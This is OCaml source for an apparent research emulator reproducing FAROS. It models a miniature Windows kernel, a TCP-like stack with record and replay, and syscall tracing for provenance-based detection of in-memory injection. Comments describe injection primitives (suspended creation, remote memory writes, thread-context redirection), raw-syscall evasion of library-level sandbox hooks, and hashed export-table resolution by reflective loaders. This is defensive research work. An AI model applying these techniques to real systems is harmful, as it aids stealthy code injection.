    {!first_ephemeral_port} = 49162, the port in the paper's Table II /
    Fig. 7 example. *)

type socket

(** A scripted remote endpoint. *)
type actor = {
  actor_name : string;
  actor_ip : Types.Ip.t;
  actor_port : int;
  on_connect : Types.flow -> string list;
      (** chunks to deliver when a guest connects *)
  on_data : Types.flow -> string -> string list;
      (** chunks to deliver in response to guest data *)
}

(** One step of a host-initiated connection's life, as seen by the guest. *)
type inbound_event =
  | Inb_connect of Types.flow  (** SYN: enqueue on the listener backlog *)
  | Inb_data of Types.flow * string  (** payload bytes for an accepted flow *)
  | Inb_fin of Types.flow  (** remote close: stream EOF once rx drains *)

type t

exception Bad_socket of int
exception Connection_refused of Types.flow

val first_ephemeral_port : int

val create : local_ip:Types.Ip.t -> t

val set_record_sink : t -> (Types.flow -> string -> unit) -> unit
(** Called for every chunk delivered to a guest socket (record mode). *)

val set_replay_source : t -> (Types.flow -> string list) -> unit
(** Replace actors with recorded per-flow input (replay mode). *)

val set_inbound_sink : t -> (int -> inbound_event -> unit) -> unit
(** Called with [(delivery_tick, event)] for every inbound event actually
    delivered by {!pump} (record mode: this is what the trace stores). *)

val register_actor : t -> actor -> unit

val schedule_inbound : t -> (int * inbound_event) list -> unit
(** Merge tick-stamped inbound events into the schedule.  Stable order
    within a tick, so a connect precedes its own data and fin. *)

val pending_inbound : t -> int
(** Scheduled inbound events not yet pumped. *)

val pump : t -> tick:int -> unit
(** Deliver every scheduled event due at [tick].  Called at scheduler
    slice boundaries so delivery ticks are identical in record and
    replay.  Fires the inbound sink only for delivered events. *)

val socket : t -> int
(** Allocate a socket; returns its id. *)

val connect : t -> int -> ip:Types.Ip.t -> port:int -> Types.flow
(** Connect to a remote endpoint.  Returns the flow describing inbound data
    (src = remote, dst = local ephemeral).  Raises
    {!Connection_refused} in live mode when no actor listens there. *)

val send : t -> int -> string -> int
(** Send guest data; live-mode actors may respond.  Returns bytes sent. *)

val recv : t -> int -> len:int -> string
(** Byte-stream receive: at most [len] bytes, [""] when nothing pending. *)

val eof : t -> int -> bool
(** [true] once the remote side closed and every byte has been drained. *)

val readiness : t -> int -> int
(** Readiness bitmask for the [poll] syscall.  Listening socket: bit 0 =
    a connection awaits {!accept}.  Connected socket: bit 0 = bytes
    available to {!recv}, bit 1 = stream at EOF. *)

val loopback_ip : Types.Ip.t

val bind : t -> int -> port:int -> unit
(** Claim a local port for a listening socket.  Raises {!Bad_socket} if the
    port is taken. *)

val listen : t -> int -> unit
(** Mark a bound socket as listening.  Raises {!Bad_socket} if unbound. *)

val accept : t -> int -> int option
(** Pop a pending connection (loopback or inbound); [None] when nothing is
    waiting.  Loopback (guest-to-guest) traffic is deterministic and
    bypasses both the record sink and the replay source. *)

val flow_of : t -> int -> Types.flow option

val close : t -> int -> unit
(** Close a socket.  Closing a listener releases its bound port (the port
    can be rebound) and drains the un-accepted backlog; closing a
    connection detaches any loopback peer (the peer reads EOF). *)

val sent_traffic : t -> (Types.flow * string) list
(** Outbound traffic in order — the packet capture a sandbox keeps. *)
