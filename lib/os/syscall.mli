(** Syscall numbers and names.

    ABI: the number goes in r0, arguments in r1..r5, the result comes back
    in r0.  Guest code can either call a kernel-exported API stub (which a
    library-level monitor like the Cuckoo baseline can hook) or issue a raw
    SYSCALL — the evasion the paper's loaders use to stay invisible to
    event-based sandboxes. *)

(** {2 Process / memory} *)

val nt_terminate_process : int
val nt_create_process : int
(** r1 = path ptr, r2 = path len, r3 = flags (bit 0: create suspended). *)

val nt_suspend_process : int
val nt_resume_process : int

val nt_allocate_virtual_memory : int
(** r1 = pid (0 = self), r2 = size; returns the new region base. *)

val nt_write_virtual_memory : int
(** r1 = pid, r2 = dst vaddr (target), r3 = src vaddr (caller), r4 = len —
    the injection primitive. *)

val nt_read_virtual_memory : int
val nt_unmap_view_of_section : int
val nt_get_context_thread : int
val nt_set_context_thread : int
val nt_query_information_process : int
val nt_get_current_pid : int
val nt_delay_execution : int
val nt_get_tick_count : int

val nt_yield_execution : int
(** Cooperative yield: ends the caller's timeslice so other processes and
    the inbound network pump make progress. *)

(** {2 Filesystem} *)

val nt_create_file : int
val nt_open_file : int
val nt_read_file : int
val nt_write_file : int
val nt_close : int
val nt_delete_file : int
val nt_query_file_size : int
val nt_set_file_position : int
val nt_query_directory_file : int
val nt_flush_buffers_file : int
val nt_query_attributes_file : int

(** {2 Network} *)

val sys_socket : int
val sys_connect : int
val sys_send : int
val sys_recv : int
val sys_bind : int
val sys_listen : int
val sys_accept : int

val sys_poll : int
(** r1 = handle; returns a readiness bitmask (listener: bit 0 = pending
    connection; connected socket: bit 0 = bytes available, bit 1 = EOF). *)

(** {2 Loader} *)

val ldr_load_library : int
val ldr_get_proc_address : int

(** {2 Devices} *)

val dev_key_read : int
val dev_audio_record : int
val dev_screenshot : int
val dev_popup : int
val dbg_print : int

val name : int -> string

val category : int -> string
(** Coarse family of a syscall number — ["process"], ["file"], ["net"],
    ["loader"], ["device"] or ["unknown"].  Used as the [class] argument of
    syscall-dispatch trace events. *)

val filesystem_syscalls : int list
(** The hooks the paper's file-tag insertion driver intercepts. *)

val exported_apis : (string * int) list
(** The Windows-API surface exported by the kernel "modules": API name and
    the syscall its stub performs.  [LoadLibraryA], [GetProcAddress] and
    [VirtualAlloc] are the three functions the paper's reflective DLL must
    resolve from the export table. *)
