(* Process-management syscalls.

   These are the NT primitives the paper's attacks are built from: creating
   a process suspended, suspending/resuming, and redirecting a suspended
   process's thread context at an injected entry point. *)

let err = -1 land Faros_vm.Word.mask

(* r1 = exit code *)
let terminate (k : Kstate.t) (p : Process.t) args =
  p.state <- Terminated;
  p.exit_code <- args.(0);
  Faros_vm.Machine.retire_asid k.machine p.space.asid;
  Kstate.emit k (Os_event.Proc_exited { pid = p.pid; code = args.(0) });
  0

(* r1 = path ptr, r2 = path len, r3 = flags (bit0: create suspended),
   r4 = parent handle to duplicate into the child (0 = none) — how a
   daemon hands an accepted connection to a spawned worker.  The child
   finds the duplicated handle in its r1 at entry.  Returns the child pid
   (which doubles as its handle). *)
let create_process (k : Kstate.t) (p : Process.t) args =
  let path = Kstate.read_guest_string k p args.(0) args.(1) in
  let suspended = args.(2) land 1 <> 0 in
  let inherit_obj =
    if args.(3) = 0 then None else Process.find_handle p args.(3)
  in
  match Spawn.spawn k ~path ~suspended ~parent:(Some p.pid) with
  | pid ->
    (match inherit_obj with
    | Some obj -> (
      match Kstate.proc k pid with
      | Some child ->
        let h = Process.alloc_handle child obj in
        child.cpu.regs.(1) <- h
      | None -> ())
    | None -> ());
    pid
  | exception Spawn.Bad_executable _ -> err

let with_target (k : Kstate.t) (p : Process.t) pid f =
  let target_pid = if pid = 0 then p.pid else pid in
  match Kstate.proc k target_pid with Some t -> f t | None -> err

(* r1 = pid *)
let suspend (k : Kstate.t) (p : Process.t) args =
  with_target k p args.(0) (fun t ->
      if t.state = Terminated then err
      else begin
        t.state <- Suspended;
        Kstate.emit k (Os_event.Proc_suspended { pid = t.pid; by = p.pid });
        0
      end)

(* r1 = pid *)
let resume (k : Kstate.t) (p : Process.t) args =
  with_target k p args.(0) (fun t ->
      if t.state = Terminated then err
      else begin
        t.state <- Ready;
        if not (List.mem t.pid k.run_queue) then k.run_queue <- k.run_queue @ [ t.pid ];
        Kstate.emit k (Os_event.Proc_resumed { pid = t.pid; by = p.pid });
        0
      end)

(* r1 = pid; returns the target's program counter (its "thread context"). *)
let get_context (k : Kstate.t) (p : Process.t) args =
  with_target k p args.(0) (fun t -> t.cpu.pc)

(* r1 = pid, r2 = new pc *)
let set_context (k : Kstate.t) (p : Process.t) args =
  with_target k p args.(0) (fun t ->
      t.cpu.pc <- args.(1);
      Kstate.emit k (Os_event.Context_set { pid = t.pid; by = p.pid; new_pc = args.(1) });
      0)

(* r1 = pid; returns the image base. *)
let query_information (k : Kstate.t) (p : Process.t) args =
  with_target k p args.(0) (fun t ->
      match t.image with Some img -> img.base | None -> err)

let get_current_pid (_ : Kstate.t) (p : Process.t) _ = p.pid

(* r1 = ticks; cooperative delay — ends the current slice. *)
let delay (_ : Kstate.t) (p : Process.t) _ =
  p.slice_budget <- 0;
  0

(* Cooperative yield — ends the current slice so other processes (and the
   inbound network pump, which runs at slice boundaries) make progress.
   The polite alternative to busy-spinning on a non-blocking accept. *)
let yield (_ : Kstate.t) (p : Process.t) _ =
  p.slice_budget <- 0;
  0

let get_tick_count (k : Kstate.t) (_ : Process.t) _ = k.tick land Faros_vm.Word.mask
