(* The kernel: syscall dispatch and the whole-system run loop.

   This is the miniature Windows 7 the analyses introspect.  Syscalls
   arriving through a kernel API stub are marked [via_stub] — those are the
   only calls a library-level monitor (the Cuckoo baseline) can see, while
   raw SYSCALLs from user code bypass it, as the paper's loaders do. *)

type t = Kstate.t

let create ?(local_ip = Types.Ip.of_string "169.254.57.168") () =
  Kstate.create ~local_ip

let subscribe = Kstate.subscribe

(* Provision an executable image into the guest filesystem. *)
let install_image (k : t) ~path image = Fs.install k.fs path (Pe.serialize image)

let spawn (k : t) ?(suspended = false) ?parent path =
  Spawn.spawn k ~path ~suspended ~parent

let args_of (cpu : Faros_vm.Cpu.t) =
  [| cpu.regs.(1); cpu.regs.(2); cpu.regs.(3); cpu.regs.(4); cpu.regs.(5) |]

let handler sysno : (Kstate.t -> Process.t -> int array -> int) option =
  let open Syscall in
  if sysno = nt_terminate_process then Some Sys_proc.terminate
  else if sysno = nt_create_process then Some Sys_proc.create_process
  else if sysno = nt_suspend_process then Some Sys_proc.suspend
  else if sysno = nt_resume_process then Some Sys_proc.resume
  else if sysno = nt_allocate_virtual_memory then Some Sys_mem.allocate
  else if sysno = nt_write_virtual_memory then Some Sys_mem.write_virtual_memory
  else if sysno = nt_read_virtual_memory then Some Sys_mem.read_virtual_memory
  else if sysno = nt_unmap_view_of_section then Some Sys_mem.unmap_view
  else if sysno = nt_get_context_thread then Some Sys_proc.get_context
  else if sysno = nt_set_context_thread then Some Sys_proc.set_context
  else if sysno = nt_query_information_process then Some Sys_proc.query_information
  else if sysno = nt_get_current_pid then Some Sys_proc.get_current_pid
  else if sysno = nt_delay_execution then Some Sys_proc.delay
  else if sysno = nt_get_tick_count then Some Sys_proc.get_tick_count
  else if sysno = nt_yield_execution then Some Sys_proc.yield
  else if sysno = nt_create_file then Some Sys_file.create_file
  else if sysno = nt_open_file then Some Sys_file.open_file
  else if sysno = nt_read_file then Some Sys_file.read_file
  else if sysno = nt_write_file then Some Sys_file.write_file
  else if sysno = nt_close then Some Sys_file.close
  else if sysno = nt_delete_file then Some Sys_file.delete_file
  else if sysno = nt_query_file_size then Some Sys_file.query_size
  else if sysno = nt_set_file_position then Some Sys_file.set_position
  else if sysno = nt_query_directory_file then Some Sys_file.query_directory
  else if sysno = nt_flush_buffers_file then Some Sys_file.flush_buffers
  else if sysno = nt_query_attributes_file then Some Sys_file.query_attributes
  else if sysno = sys_socket then Some Sys_net.socket
  else if sysno = sys_connect then Some Sys_net.connect
  else if sysno = sys_send then Some Sys_net.send
  else if sysno = sys_recv then Some Sys_net.recv
  else if sysno = sys_bind then Some Sys_net.bind
  else if sysno = sys_listen then Some Sys_net.listen
  else if sysno = sys_accept then Some Sys_net.accept
  else if sysno = sys_poll then Some Sys_net.poll
  else if sysno = ldr_load_library then Some Sys_misc.load_library
  else if sysno = ldr_get_proc_address then Some Sys_misc.get_proc_address
  else if sysno = dev_key_read then Some Sys_misc.key_read
  else if sysno = dev_audio_record then Some Sys_misc.audio_record
  else if sysno = dev_screenshot then Some Sys_misc.screenshot
  else if sysno = dev_popup then Some Sys_misc.popup
  else if sysno = dbg_print then Some Sys_misc.debug_print
  else None

(* The [kernel.syscall] span covers Sys_enter/Sys_exit fan-out too, so
   everything OS-event subscribers do (DIFT tag insertion, graph
   building) nests inside it. *)
let dispatch (k : t) (p : Process.t) (eff : Faros_vm.Cpu.effect) =
  let prof = k.Kstate.profile in
  Faros_obs.Profile.enter prof "kernel.syscall";
  let cpu = p.cpu in
  let sysno = cpu.regs.(0) in
  let args = args_of cpu in
  let via_stub = Export_table.in_kernel eff.e_pc in
  Kstate.emit k
    (Os_event.Sys_enter
       { pid = p.pid; sysno; sysname = Syscall.name sysno; args; via_stub });
  if Faros_obs.Trace.enabled k.trace then
    Faros_obs.Trace.emit k.trace ~cat:"syscall" ~name:(Syscall.name sysno)
      ~pid:p.pid
      [ ("class", Str (Syscall.category sysno)); ("via_stub", Bool via_stub) ];
  let ret =
    match handler sysno with
    | Some f -> ( try f k p args with Faros_vm.Mmu.Page_fault _ -> -1 land Faros_vm.Word.mask)
    | None -> -1 land Faros_vm.Word.mask
  in
  Faros_vm.Cpu.set cpu Faros_vm.Isa.r0 ret;
  Kstate.emit k (Os_event.Sys_exit { pid = p.pid; sysno; ret });
  Faros_obs.Profile.exit prof

let terminate_on_fault (k : t) (p : Process.t) fault =
  p.fault <- Some fault;
  p.state <- Terminated;
  p.exit_code <- -1;
  Faros_vm.Machine.retire_asid k.machine p.space.asid;
  Kstate.emit k (Os_event.Proc_exited { pid = p.pid; code = -1 })

(* Run [p] for at most [budget] instructions. *)
let run_slice (k : t) (p : Process.t) ~budget =
  p.slice_budget <- budget;
  while p.slice_budget > 0 && p.state = Ready do
    p.slice_budget <- p.slice_budget - 1;
    match Faros_vm.Machine.step k.machine p.cpu with
    | Ok eff ->
      k.tick <- k.tick + 1;
      if eff.e_instr = Faros_vm.Isa.Syscall then dispatch k p eff
      else if p.cpu.halted then begin
        (* HALT terminates the process; r1 carries the exit code. *)
        p.state <- Terminated;
        p.exit_code <- p.cpu.regs.(1);
        Faros_vm.Machine.retire_asid k.machine p.space.asid;
        Kstate.emit k (Os_event.Proc_exited { pid = p.pid; code = p.exit_code })
      end
    | Error fault -> terminate_on_fault k p fault
  done

(* Run the whole system until every process has terminated (or is stuck
   suspended), or [max_ticks] instructions have executed.

   Scheduled inbound network events are pumped at slice boundaries: the
   delivery tick is the boundary tick, a pure function of the
   deterministic schedule, so record and replay deliver identically. *)
let run ?(max_ticks = 2_000_000) ?(timeslice = 200) (k : t) =
  let rec loop () =
    if k.tick < max_ticks then begin
      Netstack.pump k.net ~tick:k.tick;
      match Sched.next k with
      | None -> ()
      | Some p ->
        run_slice k p ~budget:(min timeslice (max_ticks - k.tick));
        loop ()
    end
  in
  loop ()

let tick (k : t) = k.tick
