(* Process creation: read an image from the filesystem, build an address
   space with the kernel mapped in, load the image, and report every byte
   that came from the file so provenance starts at the file. *)

exception Bad_executable of string

let spawn (k : Kstate.t) ~path ~suspended ~parent : Types.pid =
  let image_bytes =
    match Fs.exists k.fs path with
    | true ->
      let f = Fs.open_file k.fs path in
      Bytes.to_string (Fs.read f ~offset:0 ~len:(Bytes.length f.data))
    | false -> raise (Bad_executable path)
  in
  let image =
    try Pe.parse image_bytes with Pe.Bad_image m -> raise (Bad_executable (path ^ ": " ^ m))
  in
  let mmu = k.machine.mmu in
  let space = Faros_vm.Mmu.create_space mmu ~name:image.img_name in
  Export_table.map_into k.exports mmu space;
  Faros_vm.Mmu.map mmu space ~vaddr:Process.stack_base ~pages:Process.stack_pages;
  let loaded = Loader.load mmu space k.exports image in
  let pid = k.next_pid in
  k.next_pid <- pid + 1;
  let cpu =
    Faros_vm.Cpu.create ~cr3:space.asid ~pc:loaded.ld_entry ~sp:Process.initial_sp
  in
  let p : Process.t =
    {
      pid;
      proc_name = image.img_name;
      cpu;
      space;
      state = (if suspended then Process.Suspended else Process.Ready);
      parent;
      handles = Hashtbl.create 8;
      next_handle = 8;
      heap_next = Process.heap_base;
      image = Some image;
      modules = [];
      exit_code = 0;
      fault = None;
      slice_budget = 0;
    }
  in
  Hashtbl.replace k.procs pid p;
  k.run_queue <- k.run_queue @ [ pid ];
  Kstate.emit k
    (Os_event.Proc_created
       { pid; name = image.img_name; parent; asid = space.asid; suspended });
  (* The image bytes now in memory came from [path]: file provenance. *)
  let version = Fs.version k.fs path in
  List.iter
    (fun (_, paddrs) ->
      if paddrs <> [] then
        Kstate.emit k
          (Os_event.File_read { pid; path; version; offset = 0; dst_paddrs = paddrs }))
    loaded.ld_section_paddrs;
  Kstate.emit k (Os_event.Module_loaded { pid; image = image.img_name; base = image.base });
  pid
