(** The kernel region and its export table.

    The kernel's API stubs and export directory live in physical frames
    shared into every process address space at 0x80000000+, mirroring how
    Windows maps ntdll/kernel32 everywhere.  The export directory is the
    memory the paper's export-table tag covers: an array of
    (name-hash, function-pointer) entries that reflective loaders walk to
    resolve LoadLibraryA / GetProcAddress / VirtualAlloc without asking the
    OS. *)

val kernel_base : int
val kernel_stub_pages : int
val export_dir_vaddr : int
val export_dir_pages : int

val hash_name : string -> int
(** djb2 — the name hash reflective payloads embed as constants (standing
    in for the ROR13 hashes of real shellcode). *)

type t = {
  exports : (string * int) list;  (** API name -> stub vaddr *)
  stub_frames : int list;
  dir_frames : int list;
  pointer_paddrs : int list;  (** physical addrs of every pointer byte *)
  pointers_by_name : (string * int list) list;
      (** per exported function: the physical bytes of its directory
          pointer — what FAROS's startup scan taints *)
  stub_span : int;
  space : Faros_vm.Mmu.space;  (** the kernel's own view *)
}

val in_kernel : int -> bool
(** Is a virtual address inside the kernel region?  (Used to classify
    syscalls as stub-mediated vs raw.) *)

val build : Faros_vm.Machine.t -> t
(** Assemble the API stubs, write the export directory, and return the
    layout.  Directory format: a 4-byte entry count, then 8-byte entries of
    (name hash, function pointer). *)

val map_into : t -> Faros_vm.Mmu.t -> Faros_vm.Mmu.space -> unit
(** Share the kernel region into a process address space. *)

val stub_addr : t -> string -> int
(** Stub address of an exported API.  Raises [Not_found]. *)

val entry_count : t -> int
val entries_vaddr : int
