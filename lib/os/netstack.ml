(* A miniature TCP-like network stack.

   Remote endpoints are [actor]s: host-side scripts that stand in for the
   attacker machine (Metasploit listener, C2 server, web server).  In live
   (record) mode actors respond to guest connects/sends and their payloads
   are handed to a record sink; in replay mode actors are never consulted
   and received data comes from the recorded trace — the PANDA record/replay
   discipline, where network input is the non-deterministic event.

   Traffic also flows the other way: host-side *clients* initiate
   connections to guest servers.  Those arrive as a tick-stamped inbound
   schedule pumped at scheduler slice boundaries, so delivery ticks are a
   pure function of the (deterministic) schedule: record mode consumes a
   generator's schedule and reports every *delivered* event to the inbound
   sink with its actual delivery tick; replay mode consumes the recorded
   schedule and, because slice boundaries replay identically, delivers the
   same bytes at the same ticks.  Events that find no listener (or a closed
   socket) are dropped without being recorded — consistently in both modes.

   Ephemeral ports are allocated deterministically starting at 49162 (the
   port in the paper's Table II / Fig. 7 example). *)

type socket = {
  sock_id : int;
  mutable flow : Types.flow option;  (* src = remote, dst = local, as seen by rx *)
  rx : Buffer.t;
  mutable rx_pos : int;
  mutable connected : bool;
  mutable peer : int option;  (* loopback peer socket *)
  mutable listening : bool;
  mutable bound_port : int option;
  mutable fin : bool;  (* remote end closed; EOF once rx drains *)
  pending : int Queue.t;  (* connections awaiting accept *)
}

type actor = {
  actor_name : string;
  actor_ip : Types.Ip.t;
  actor_port : int;
  on_connect : Types.flow -> string list;
  on_data : Types.flow -> string -> string list;
}

(* One step of a host-initiated connection's life, as seen by the guest. *)
type inbound_event =
  | Inb_connect of Types.flow
  | Inb_data of Types.flow * string
  | Inb_fin of Types.flow

type t = {
  local_ip : Types.Ip.t;
  sockets : (int, socket) Hashtbl.t;
  actors : (int * int, actor) Hashtbl.t;  (* (ip, port) -> actor *)
  listeners : (int, int) Hashtbl.t;  (* local port -> listening socket *)
  inbound_flows : (Types.flow, int) Hashtbl.t;  (* accepted-side sockets *)
  mutable inbound : (int * inbound_event) list;  (* tick-sorted schedule *)
  mutable next_sock : int;
  mutable next_port : int;
  mutable record_sink : (Types.flow -> string -> unit) option;
  mutable replay_source : (Types.flow -> string list) option;
  mutable inbound_sink : (int -> inbound_event -> unit) option;
  mutable sent : (Types.flow * string) list;  (* outbound traffic, for forensics *)
}

exception Bad_socket of int
exception Connection_refused of Types.flow

let first_ephemeral_port = 49162

let create ~local_ip =
  {
    local_ip;
    sockets = Hashtbl.create 16;
    actors = Hashtbl.create 8;
    listeners = Hashtbl.create 4;
    inbound_flows = Hashtbl.create 16;
    inbound = [];
    next_sock = 1;
    next_port = first_ephemeral_port;
    record_sink = None;
    replay_source = None;
    inbound_sink = None;
    sent = [];
  }

let set_record_sink t f = t.record_sink <- Some f
let set_replay_source t f = t.replay_source <- Some f
let set_inbound_sink t f = t.inbound_sink <- Some f

let register_actor t actor =
  Hashtbl.replace t.actors (actor.actor_ip, actor.actor_port) actor

(* Merge tick-stamped events into the schedule.  The sort is stable, so
   events at the same tick keep their relative order — a connect always
   precedes its own data and fin. *)
let schedule_inbound t events =
  t.inbound <-
    List.stable_sort
      (fun (a, _) (b, _) -> compare a b)
      (t.inbound @ events)

let pending_inbound t = List.length t.inbound

let socket t =
  let id = t.next_sock in
  t.next_sock <- id + 1;
  let s =
    {
      sock_id = id;
      flow = None;
      rx = Buffer.create 64;
      rx_pos = 0;
      connected = false;
      peer = None;
      listening = false;
      bound_port = None;
      fin = false;
      pending = Queue.create ();
    }
  in
  Hashtbl.replace t.sockets id s;
  id

let find t id =
  match Hashtbl.find_opt t.sockets id with
  | Some s -> s
  | None -> raise (Bad_socket id)

let deliver t s chunk =
  Buffer.add_string s.rx chunk;
  match (s.flow, t.record_sink) with
  | Some flow, Some sink -> sink flow chunk
  | _ -> ()

let loopback_ip = Types.Ip.of_string "127.0.0.1"

(* Guest-to-guest loopback connection: entirely deterministic, so it goes
   through neither the record sink nor the replay source. *)
let connect_loopback t (s : socket) ~port ~local_port =
  match Hashtbl.find_opt t.listeners port with
  | None ->
    raise
      (Connection_refused
         {
           Types.src_ip = loopback_ip;
           src_port = port;
           dst_ip = loopback_ip;
           dst_port = local_port;
         })
  | Some listener_id ->
    let listener = find t listener_id in
    (* server-side half of the pair *)
    let server_id = socket t in
    let server = find t server_id in
    let client_flow =
      (* data the client receives: from the server's port *)
      {
        Types.src_ip = loopback_ip;
        src_port = port;
        dst_ip = loopback_ip;
        dst_port = local_port;
      }
    in
    let server_flow =
      {
        Types.src_ip = loopback_ip;
        src_port = local_port;
        dst_ip = loopback_ip;
        dst_port = port;
      }
    in
    s.flow <- Some client_flow;
    s.connected <- true;
    s.peer <- Some server_id;
    server.flow <- Some server_flow;
    server.connected <- true;
    server.peer <- Some s.sock_id;
    Queue.add server_id listener.pending;
    client_flow

(* Connect to a remote endpoint.  Returns the flow describing inbound data
   (src = remote endpoint, dst = our ephemeral endpoint). *)
let connect t id ~ip ~port =
  let s = find t id in
  let local_port = t.next_port in
  t.next_port <- local_port + 1;
  if ip = loopback_ip || ip = t.local_ip then connect_loopback t s ~port ~local_port
  else begin
  let flow =
    { Types.src_ip = ip; src_port = port; dst_ip = t.local_ip; dst_port = local_port }
  in
  s.flow <- Some flow;
  s.connected <- true;
  (match t.replay_source with
  | Some source ->
    (* Replayed input: everything this flow ever received, in order. *)
    List.iter (fun chunk -> Buffer.add_string s.rx chunk) (source flow)
  | None -> (
    match Hashtbl.find_opt t.actors (ip, port) with
    | Some actor -> List.iter (deliver t s) (actor.on_connect flow)
    | None -> raise (Connection_refused flow)));
  flow
  end

let send t id data =
  let s = find t id in
  match s.flow with
  | None -> raise (Bad_socket id)
  | Some flow -> (
    t.sent <- (flow, data) :: t.sent;
    match s.peer with
    | Some peer_id ->
      (* loopback: deliver straight into the peer, no recording.  A peer
         that already closed swallows the bytes, like a TCP RST would. *)
      (match Hashtbl.find_opt t.sockets peer_id with
      | Some peer -> Buffer.add_string peer.rx data
      | None -> ());
      String.length data
    | None ->
      (match t.replay_source with
      | Some _ -> ()  (* replies already preloaded from the trace *)
      | None -> (
        match Hashtbl.find_opt t.actors (flow.src_ip, flow.src_port) with
        | Some actor -> List.iter (deliver t s) (actor.on_data flow data)
        | None -> ()));
      String.length data)

(* Byte-stream recv: returns at most [len] bytes, "" when nothing pending. *)
let recv t id ~len =
  let s = find t id in
  let avail = Buffer.length s.rx - s.rx_pos in
  let n = min len avail in
  if n <= 0 then ""
  else begin
    let out = Buffer.sub s.rx s.rx_pos n in
    s.rx_pos <- s.rx_pos + n;
    out
  end

(* EOF: the remote side sent fin and the guest drained every byte. *)
let eof t id =
  let s = find t id in
  s.fin && Buffer.length s.rx - s.rx_pos = 0

(* Readiness bitmask for the [poll] syscall.  Listener: bit 0 = a
   connection is waiting to be accepted.  Connected socket: bit 0 = bytes
   available to recv, bit 1 = stream at EOF. *)
let readiness t id =
  let s = find t id in
  if s.listening then (if Queue.is_empty s.pending then 0 else 1)
  else
    let avail = Buffer.length s.rx - s.rx_pos > 0 in
    (if avail then 1 else 0) lor (if (not avail) && s.fin then 2 else 0)

(* Server-side API: bind a local port, listen, accept pending
   connections. *)
let bind t id ~port =
  let s = find t id in
  if Hashtbl.mem t.listeners port then raise (Bad_socket id);
  s.bound_port <- Some port;
  Hashtbl.replace t.listeners port id

let listen t id =
  let s = find t id in
  match s.bound_port with None -> raise (Bad_socket id) | Some _ -> s.listening <- true

(* Returns the accepted socket id, or None when nothing is pending. *)
let accept t id =
  let s = find t id in
  if not s.listening then raise (Bad_socket id)
  else if Queue.is_empty s.pending then None
  else Some (Queue.pop s.pending)

let flow_of t id = (find t id).flow

(* -- inbound pump --------------------------------------------------------- *)

(* Deliver every scheduled event that is due at [tick].  Called at slice
   boundaries from the kernel run loop, so delivery ticks are boundary
   ticks — identical in record and replay.  Only *delivered* events reach
   the inbound sink (and hence the trace); refused connects and data for
   closed sockets vanish in both modes alike. *)
let pump t ~tick =
  let deliver_event ev =
    match ev with
    | Inb_connect flow -> (
      match Hashtbl.find_opt t.listeners flow.Types.dst_port with
      | None -> false
      | Some listener_id -> (
        match Hashtbl.find_opt t.sockets listener_id with
        | Some listener when listener.listening ->
          let conn_id = socket t in
          let conn = find t conn_id in
          conn.flow <- Some flow;
          conn.connected <- true;
          Hashtbl.replace t.inbound_flows flow conn_id;
          Queue.add conn_id listener.pending;
          true
        | Some _ | None -> false))
    | Inb_data (flow, data) -> (
      match Hashtbl.find_opt t.inbound_flows flow with
      | Some sid -> (
        match Hashtbl.find_opt t.sockets sid with
        | Some s when not s.fin ->
          Buffer.add_string s.rx data;
          true
        | Some _ | None -> false)
      | None -> false)
    | Inb_fin flow -> (
      match Hashtbl.find_opt t.inbound_flows flow with
      | Some sid -> (
        match Hashtbl.find_opt t.sockets sid with
        | Some s when not s.fin ->
          s.fin <- true;
          true
        | Some _ | None -> false)
      | None -> false)
  in
  let rec go () =
    match t.inbound with
    | (at, ev) :: rest when at <= tick ->
      t.inbound <- rest;
      if deliver_event ev then (
        match t.inbound_sink with Some sink -> sink tick ev | None -> ());
      go ()
    | _ -> ()
  in
  go ()

(* -- close ---------------------------------------------------------------- *)

(* Drop the accepted-flow index entry that points at [s]. *)
let forget_flow t (s : socket) =
  match s.flow with
  | Some f -> (
    match Hashtbl.find_opt t.inbound_flows f with
    | Some sid when sid = s.sock_id -> Hashtbl.remove t.inbound_flows f
    | Some _ | None -> ())
  | None -> ()

(* Tell a loopback peer its other end is gone: reads drain to EOF, writes
   are swallowed. *)
let detach_peer t (s : socket) =
  match s.peer with
  | Some pid -> (
    match Hashtbl.find_opt t.sockets pid with
    | Some peer ->
      peer.peer <- None;
      peer.fin <- true
    | None -> ())
  | None -> ()

(* Closing a listener releases its port (so the port can be rebound) and
   drains the un-accepted backlog; closing a connection detaches its peer
   and forgets its flow index entry. *)
let close t id =
  match Hashtbl.find_opt t.sockets id with
  | None -> ()
  | Some s ->
    (match s.bound_port with
    | Some port when Hashtbl.find_opt t.listeners port = Some id ->
      Hashtbl.remove t.listeners port;
      Queue.iter
        (fun cid ->
          match Hashtbl.find_opt t.sockets cid with
          | Some c ->
            forget_flow t c;
            detach_peer t c;
            Hashtbl.remove t.sockets cid
          | None -> ())
        s.pending;
      Queue.clear s.pending
    | Some _ | None -> ());
    forget_flow t s;
    detach_peer t s;
    Hashtbl.remove t.sockets id

let sent_traffic t = List.rev t.sent
