(** Kernel events.

    These are the introspection surface of the guest OS — the equivalent of
    PANDA's syscalls2 and OSI plugins.  Whole-system analyses (the FAROS
    plugin, the Cuckoo-style sandbox) subscribe to this stream.

    Every host-side byte copy the kernel performs on behalf of the guest is
    reported with resolved {e physical} addresses, so that taint propagates
    through syscalls exactly as it does through instructions. *)

type t =
  | Proc_created of {
      pid : Types.pid;
      name : string;
      parent : Types.pid option;
      asid : int;
      suspended : bool;
    }
  | Proc_exited of { pid : Types.pid; code : int }
  | Proc_suspended of { pid : Types.pid; by : Types.pid }
  | Proc_resumed of { pid : Types.pid; by : Types.pid }
  | Proc_unmapped of { pid : Types.pid; by : Types.pid; vaddr : int; pages : int }
  | Sys_enter of {
      pid : Types.pid;
      sysno : int;
      sysname : string;
      args : int array;
      via_stub : bool;  (** entered through a hookable library stub *)
    }
  | Sys_exit of { pid : Types.pid; sysno : int; ret : int }
  | File_opened of { pid : Types.pid; path : string; created : bool }
  | File_read of {
      pid : Types.pid;
      path : string;
      version : int;
      offset : int;
      dst_paddrs : int list;  (** where the bytes landed in guest memory *)
    }
  | File_write of {
      pid : Types.pid;
      path : string;
      version : int;
      offset : int;
      src_paddrs : int list;
    }
  | File_deleted of { pid : Types.pid; path : string }
  | Net_connect of { pid : Types.pid; flow : Types.flow }
  | Net_accept of { pid : Types.pid; flow : Types.flow }
      (** a server accepted a host-initiated (or loopback) connection *)
  | Net_recv of { pid : Types.pid; flow : Types.flow; dst_paddrs : int list }
  | Net_send of { pid : Types.pid; flow : Types.flow; src_paddrs : int list }
  | Net_closed of { pid : Types.pid; flow : Types.flow }
      (** a process closed a connected socket: the flow is quiescent from
          its side (incremental graph builders retire on this) *)
  | Mem_copy of {
      by : Types.pid;  (** the process that asked for the copy *)
